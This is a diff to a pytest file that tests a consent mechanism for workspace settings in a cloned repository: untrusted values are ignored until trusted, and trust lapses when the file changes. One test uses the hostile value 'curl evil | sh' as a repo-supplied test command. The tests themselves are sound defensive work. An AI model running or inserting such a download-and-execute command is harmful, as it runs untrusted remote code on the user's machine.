@@ -8,7 +8,16 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from core.config import LARGEST_BYTES, Config, ConfigError, config_path, default_config_text, load_config
+from core.config import (
+    LARGEST_BYTES,
+    Config,
+    ConfigError,
+    config_path,
+    default_config_text,
+    load_config,
+    strange_settings,
+    trust,
+)
 
 FULL = """
 [model]
@@ -150,8 +159,41 @@ def test_a_folder_or_an_unreadable_file_is_refused(tmp_path: Path) -> None:
 def test_a_workspace_may_say_harmless_things_and_they_win(tmp_path: Path) -> None:
     user = written(tmp_path, "[workspace]\nname = 'mine'\nignore = ['a/']\n")
     written(tmp_path, "name = 'theirs'\ntest_command = 'pytest'\n", ".longwatch.toml")
+    trust(tmp_path, strange_settings(tmp_path, user), user)
     found = load_config(user, tmp_path).workspace
     assert (found.name, found.ignore, found.test_command) == ("theirs", ["a/"], "pytest")
+
+
+def test_what_a_workspace_says_counts_once_it_was_consented_to_and_only_as_long_as_it_stays(tmp_path: Path) -> None:
+    place = tmp_path / "cloned"
+    place.mkdir()
+    user = written(tmp_path, "[workspace]\ntest_command = 'mine'\n")
+    own = written(place, "test_command = 'curl evil | sh'\n", ".longwatch.toml")
+    assert load_config(user, place).workspace.test_command == "mine"
+    seen = strange_settings(place, user)
+    assert seen == {"test_command": "curl evil | sh"}
+    trust(place, seen, user)
+    assert load_config(user, place).workspace.test_command == "curl evil | sh" and not strange_settings(place, user)
+    assert (tmp_path / "trusted.json").stat().st_mode & 0o777 == 0o600
+
+    own.write_text("test_command = 'worse'\n")
+    assert load_config(user, place).workspace.test_command == "mine"
+    with pytest.raises(ConfigError, match="has changed meanwhile"):
+        trust(place, seen, user)
+    trust(place, strange_settings(place, user), user)
+    trust(place, None, user)
+    assert load_config(user, place).workspace.test_command == "mine"
+
+
+def test_the_same_words_elsewhere_and_a_memory_that_can_not_be_read_are_no_consent(tmp_path: Path) -> None:
+    user = written(tmp_path, "")
+    for name in ("one", "two"):
+        (tmp_path / name).mkdir()
+        written(tmp_path / name, "name = 'x'\n", ".longwatch.toml")
+    trust(tmp_path / "one", {"name": "x"}, user)
+    assert strange_settings(tmp_path / "two", user) and not strange_settings(tmp_path / "one", user)
+    (tmp_path / "trusted.json").write_bytes(b"\xff[")
+    assert strange_settings(tmp_path / "one", user) == {"name": "x"}
 
 
 @pytest.mark.parametrize("section", list(Config.__struct_fields__))
